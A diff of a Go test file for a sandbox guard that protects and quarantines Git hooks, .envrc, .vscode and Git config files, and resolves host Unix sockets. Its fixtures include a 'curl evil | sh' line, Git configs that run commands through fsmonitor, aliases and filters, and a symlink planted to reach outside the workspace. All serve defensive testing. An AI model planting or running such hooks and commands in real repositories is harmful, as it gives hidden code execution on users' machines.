@@ -1,11 +1,13 @@
 package sandbox
 
 import (
+	"fmt"
 	"net"
 	"os"
 	"path/filepath"
 	"slices"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 )
@@ -58,8 +60,116 @@ func TestGuardFindsProtectedPaths(t *testing.T) {
 		}
 	}
 	for _, name := range []string{".mcp.json", ".vscode", ".bashrc"} {
-		if !slices.Contains(g.watched, filepath.Join(ws, name)) {
-			t.Errorf("watched %q lacks the missing %s", g.watched, name)
+		if !slices.ContainsFunc(g.watched, func(w watch) bool { return w.path == filepath.Join(ws, name) }) {
+			t.Errorf("watched %v lacks the missing %s", g.watched, name)
+		}
+	}
+	// .git/commondir is missing in a normal repository: a placeholder
+	// holds it, pointing Git at its own directory, until release.
+	cd := filepath.Join(ws, ".git/commondir")
+	if b, err := os.ReadFile(cd); err != nil || string(b) != ".\n" {
+		t.Errorf("commondir placeholder = %q, %v; want \".\\n\"", b, err)
+	}
+	if !slices.Contains(got, ".git/commondir") {
+		t.Errorf("protected paths %q lack the commondir placeholder", got)
+	}
+	g.release()
+	if _, err := os.Lstat(cd); err == nil {
+		t.Error("release left the commondir placeholder behind")
+	}
+}
+
+// Two runs in one repository share the placeholders: the first to finish
+// must not pull them from under the other.
+func TestPlaceholdersSharedByConcurrentRuns(t *testing.T) {
+	ws := t.TempDir()
+	mkfile(t, filepath.Join(ws, ".git/config"), "")
+	a, err := protect(ws, []string{ws})
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, err := protect(ws, []string{ws})
+	if err != nil {
+		t.Fatal(err)
+	}
+	hooks := filepath.Join(ws, ".git/hooks")
+	a.release()
+	if _, err := os.Stat(hooks); err != nil {
+		t.Fatalf("the first run's release removed a placeholder the second still holds: %v", err)
+	}
+	b.release()
+	if _, err := os.Stat(hooks); err == nil {
+		t.Error("the last release left the hooks placeholder behind")
+	}
+}
+
+// A protected name that is a symlink cannot carry a mount: its target is
+// protected when writable, and replacing the link is undone.
+func TestGuardSymlinkedName(t *testing.T) {
+	ws := t.TempDir()
+	mkfile(t, filepath.Join(ws, "shared/vscode/settings.json"), "{}")
+	if err := os.Symlink("shared/vscode", filepath.Join(ws, ".vscode")); err != nil {
+		t.Fatal(err)
+	}
+	g, err := protect(ws, []string{ws})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer g.release()
+	if !slices.ContainsFunc(g.paths, func(p protectedPath) bool { return p.Path == filepath.Join(ws, "shared/vscode") }) {
+		t.Errorf("the symlink's target in the workspace is not protected: %+v", g.paths)
+	}
+	os.Remove(filepath.Join(ws, ".vscode"))
+	mkfile(t, filepath.Join(ws, ".vscode/tasks.json"), "evil")
+	moved, _ := g.afterRun(time.Unix(1700000000, 0))
+	if len(moved) != 1 || moved[0].Path != filepath.Join(ws, ".vscode") {
+		t.Errorf("quarantined %+v; want the directory that replaced the .vscode symlink", moved)
+	}
+}
+
+// The quarantine runs with the caller's rights on paths the command made:
+// a symlink planted there must be moved, never followed.
+func TestQuarantineNeverFollowsSymlinks(t *testing.T) {
+	ws, outside := t.TempDir(), t.TempDir()
+	mkfile(t, filepath.Join(outside, "precious"), "keep me")
+	g, err := protect(ws, []string{ws})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer g.release()
+	mkfile(t, filepath.Join(ws, ".git/config"), "")
+	if err := os.Symlink(outside, filepath.Join(ws, ".git/hooks")); err != nil {
+		t.Fatal(err)
+	}
+	moved, _ := g.afterRun(time.Unix(1700000000, 0))
+	if b, err := os.ReadFile(filepath.Join(outside, "precious")); err != nil || string(b) != "keep me" {
+		t.Fatalf("a file outside the workspace was touched through a symlink: %q, %v", b, err)
+	}
+	if len(moved) != 1 || moved[0].Path != filepath.Join(ws, ".git/hooks") {
+		t.Errorf("quarantined %+v; want only the .git/hooks symlink itself", moved)
+	}
+}
+
+// A repository made during the run loses a config that would run commands.
+func TestQuarantineExecutingConfig(t *testing.T) {
+	for config, moved := range map[string]bool{
+		"[core]\n\tbare = false\n":          false,
+		"[core]\n\tfsmonitor = /tmp/evil\n": true,
+		"[alias]\n\tst = !sh -c evil\n":     true,
+		"[include]\n\tpath = ../evil.cfg\n": true,
+		"[filter \"x\"]\n\tsmudge = evil\n": true,
+	} {
+		ws := t.TempDir()
+		g, err := protect(ws, []string{ws})
+		if err != nil {
+			t.Fatal(err)
+		}
+		mkfile(t, filepath.Join(ws, ".git/config"), config)
+		got, _ := g.afterRun(time.Unix(1700000000, 0))
+		g.release()
+		did := slices.ContainsFunc(got, func(q Quarantined) bool { return strings.HasSuffix(q.Path, ".git/config") })
+		if did != moved {
+			t.Errorf("new repository with config %q: config moved aside = %v; want %v", config, did, moved)
 		}
 	}
 }
@@ -75,6 +185,7 @@ func TestGuardQuarantines(t *testing.T) {
 	mkfile(t, filepath.Join(ws, ".envrc"), "curl evil | sh")
 	mkfile(t, filepath.Join(ws, ".vscode/tasks.json"), "{}")
 	mkfile(t, filepath.Join(ws, ".git/config"), "")
+	mkfile(t, filepath.Join(ws, ".git/commondir"), "../../evil")
 	mkfile(t, filepath.Join(ws, ".git/hooks/post-checkout"), "evil")
 	mkfile(t, filepath.Join(ws, ".git/hooks/pre-push.sample"), "")
 	mkfile(t, filepath.Join(ws, "normal.txt"), "")
@@ -90,7 +201,7 @@ func TestGuardQuarantines(t *testing.T) {
 		}
 	}
 	slices.Sort(from)
-	if want := []string{".envrc", ".git/hooks/post-checkout", ".vscode"}; !slices.Equal(from, want) {
+	if want := []string{".envrc", ".git/commondir", ".git/hooks/post-checkout", ".vscode"}; !slices.Equal(from, want) {
 		t.Errorf("quarantined %q; want %q", from, want)
 	}
 	for _, keep := range []string{".git/config", ".git/hooks/pre-push.sample", "normal.txt"} {
@@ -138,8 +249,40 @@ func TestHostSockets(t *testing.T) {
 		"0000000000000000: 00000003 00000000 00000000 0001 03 44444\n" +
 		"0000000000000000: 00000002 00000000 00010000 0001 01 55555 " + plain + "\n" +
 		"0000000000000000: 00000002 00000000 00010000 0001 01 66666 relative.sock\n"
-	got := hostSockets(strings.NewReader(table))
+	got, lost := hostSockets(strings.NewReader(table), t.TempDir())
 	if !slices.Equal(got, []string{sock}) {
 		t.Errorf("hostSockets = %q; want only %q (resolved, deduplicated, real sockets)", got, sock)
+	}
+	if !slices.Equal(lost, []string{"relative.sock"}) {
+		t.Errorf("hostSockets lost %q; want the relative path it could not locate", lost)
+	}
+}
+
+// A socket bound with a relative path is found through the working
+// directory of the process holding it.
+func TestHostSocketsRelative(t *testing.T) {
+	dir := t.TempDir()
+	l, err := net.Listen("unix", filepath.Join(dir, "rel.sock"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Close()
+	raw, _ := l.(*net.UnixListener).SyscallConn()
+	var inode uint64
+	raw.Control(func(fd uintptr) {
+		var st syscall.Stat_t
+		syscall.Fstat(int(fd), &st)
+		inode = st.Ino
+	})
+	// A fake /proc: one process holding the socket, its cwd in dir.
+	proc := t.TempDir()
+	os.MkdirAll(filepath.Join(proc, "4242", "fd"), 0o755)
+	os.Symlink(fmt.Sprintf("socket:[%d]", inode), filepath.Join(proc, "4242", "fd", "3"))
+	os.Symlink(dir, filepath.Join(proc, "4242", "cwd"))
+	table := "Num RefCount Protocol Flags Type St Inode Path\n" +
+		fmt.Sprintf("0000000000000000: 00000002 00000000 00010000 0001 01 %d rel.sock\n", inode)
+	got, lost := hostSockets(strings.NewReader(table), proc)
+	if want := filepath.Join(dir, "rel.sock"); !slices.Equal(got, []string{want}) || len(lost) != 0 {
+		t.Errorf("hostSockets = %q, lost %q; want %q", got, lost, want)
 	}
 }
